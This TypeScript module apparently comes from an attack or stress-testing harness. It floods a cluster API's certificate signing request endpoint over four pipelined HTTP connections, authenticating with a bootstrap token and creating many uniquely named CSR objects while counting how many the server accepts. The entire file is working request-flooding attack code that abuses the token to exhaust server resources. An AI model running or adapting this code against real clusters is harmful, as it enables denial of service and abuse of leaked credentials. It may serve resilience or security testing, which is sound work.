/** Many certificate signing requests of somebody with a bootstrap token. */
import { createTally, type Target } from "./attack.ts";
import { CSRS } from "./asking.ts";
import { open } from "./connection.ts";
import { requestOf } from "./node_request.ts";
import { waitUntil } from "./waiting.ts";

const CONNECTIONS = 4;
const UNANSWERED = 10;

/** Creates so many, which is all that it adds to the tally. */
export async function createRequests(count: number, target: Target): Promise<void> {
  const tally = createTally();
  const csr = await requestOf("flood");
  const prefix = `flood-${Math.floor(target.random() * 1e12).toString(36)}`;
  let begun = 0;
  await Promise.all(Array.from({ length: CONNECTIONS }, async () => {
    using connection = await open({ ...target, tally }, { protocol: "http/1.1", code: 201 });
    for (let own = 0; begun < count && !target.deadline.aborted && !connection.isClosed(); own++) {
      const body = JSON.stringify({ ...csr, metadata: { name: `${prefix}-${begun++}` } });
      await connection.write(
        `POST ${CSRS} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${target.token}\r\n` +
          `content-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
      );
      const isRoom = () => connection.answers() > own - UNANSWERED || connection.isClosed();
      await waitUntil(isRoom, target.deadline);
    }
    await waitUntil(() => tally.answered >= count || connection.isClosed(), target.deadline, 10_000);
  }));
  target.tally.created += tally.answered;
}
